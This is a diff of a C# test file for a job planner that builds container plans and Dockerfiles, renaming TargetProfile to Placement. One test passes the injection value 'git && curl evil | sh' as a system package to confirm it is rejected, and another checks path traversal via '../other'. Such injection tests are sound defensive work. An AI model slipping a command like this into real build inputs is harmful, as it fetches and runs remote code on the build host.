@@ -62,7 +62,7 @@ public class ImageRecipeTests
     [Fact]
     public void Base_images_can_be_mapped()
     {
-        TargetProfile profile = TargetProfile.Containers("docker") with { BaseImages = new Dictionary<string, string> { ["python:3-slim"] = "registry.local/python:3" } };
+        Placement profile = Placement.Containers("docker") with { BaseImages = new Dictionary<string, string> { ["python:3-slim"] = "registry.local/python:3" } };
 
         Assert.Equal("registry.local/python:3", JobPlanner.Plan(s_job, JobArguments.None, profile).Plan!.Container?.Image);
     }
@@ -70,7 +70,7 @@ public class ImageRecipeTests
     [Fact]
     public void Nothing_slips_into_a_Dockerfile_that_is_no_package()
     {
-        PlanResult result = JobPlanner.Plan(s_job with { SystemPackages = ["git && curl evil | sh"] }, JobArguments.None, TargetProfile.Containers("docker"));
+        PlanResult result = JobPlanner.Plan(s_job with { SystemPackages = ["git && curl evil | sh"] }, JobArguments.None, Placement.Containers("docker"));
 
         Assert.Null(result.Plan);
         Assert.Contains(result.Diagnostics, d => d.Severity == DiagnosticSeverity.Error && d.Message.Contains("systemPackages", StringComparison.Ordinal));
@@ -86,7 +86,7 @@ public class ImageRecipeTests
 
     [Fact]
     public void A_working_folder_beside_the_job_is_refused() =>
-        Assert.Null(JobPlanner.Plan(s_job with { WorkingDirectory = "../other" }, JobArguments.None, TargetProfile.Containers("docker")).Plan);
+        Assert.Null(JobPlanner.Plan(s_job with { WorkingDirectory = "../other" }, JobArguments.None, Placement.Containers("docker")).Plan);
 
     [Fact]
     public void Mounts_start_from_the_job_and_from_the_working_folder()
@@ -103,7 +103,7 @@ public class ImageRecipeTests
     [Fact]
     public void A_local_plan_knows_nothing_of_containers()
     {
-        JobPlan plan = JobPlanner.Plan(s_job with { Image = "x", SystemPackages = ["git"], Ports = [new JobPort { HostPort = 1, ContainerPort = 1 }] }, JobArguments.None, TargetProfile.Local).Plan!;
+        JobPlan plan = JobPlanner.Plan(s_job with { Image = "x", SystemPackages = ["git"], Ports = [new JobPort { HostPort = 1, ContainerPort = 1 }] }, JobArguments.None, Placement.Local).Plan!;
 
         Assert.Null(plan.Container);
         Assert.Equal("/p", plan.Execution.Workers[0].WorkingDirectory);
@@ -130,5 +130,5 @@ public class ImageRecipeTests
         Assert.DoesNotContain("python=3.12", Plan(job with { Image = "my/conda:1" }).Container?.Dockerfile);
     }
 
-    private static JobPlan Plan(TrainingJob job) => JobPlanner.Plan(job, JobArguments.None, TargetProfile.Containers("docker")).Plan!;
+    private static JobPlan Plan(TrainingJob job) => JobPlanner.Plan(job, JobArguments.None, Placement.Containers("docker")).Plan!;
 }
